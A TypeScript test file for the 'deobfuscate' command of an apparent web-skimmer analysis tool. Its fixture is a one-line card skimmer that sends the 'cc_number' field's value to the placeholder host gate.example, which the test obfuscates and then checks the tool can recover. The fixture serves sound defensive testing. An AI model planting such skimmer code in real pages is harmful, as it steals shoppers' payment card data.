import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JavaScriptObfuscator from 'javascript-obfuscator';
import { main } from '../../src/cli/index.ts';
import type { CommandIo } from '../../src/cli/io.ts';

async function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: CommandIo = { stdout: (t) => { stdout += t; }, stderr: (t) => { stderr += t; }, progress: () => {}, isTty: false };
  const code = await main(args, io);
  return { code, stdout, stderr };
}

describe('skimguard deobfuscate', () => {
  let dir: string;
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'skimguard-deobfuscate-'));
    const source = 'document.getElementById("cc_number").addEventListener("change", function (e) { new Image().src = "https://gate.example/c?v=" + e.target.value; });';
    writeFileSync(join(dir, 'obfuscated.js'), JavaScriptObfuscator.obfuscate(source, { seed: 1, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'] }).getObfuscatedCode());
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('prints readable code and, with --stats, what fired on stderr', async () => {
    const { code, stdout, stderr } = await run(['deobfuscate', join(dir, 'obfuscated.js'), '--stats']);
    assert.equal(code, 0);
    assert.match(stdout, /getElementById\("cc_number"\)/);
    assert.match(stdout, /https:\/\/gate\.example\/c\?v=/);
    assert.match(stderr, /recognized: javascript-obfuscator/);
    assert.match(stderr, /\d+ {2}decode-string-arrays/);
  });

  test('a missing file is an I/O error with a sentence, exit 2', async () => {
    const { code, stderr } = await run(['deobfuscate', join(dir, 'nope.js')]);
    assert.equal(code, 2);
    assert.match(stderr, /nope\.js/);
  });

  test('usage errors exit 2', async () => {
    assert.equal((await run(['deobfuscate'])).code, 2);
    assert.equal((await run(['deobfuscate', 'a.js', 'b.js'])).code, 2);
  });
});
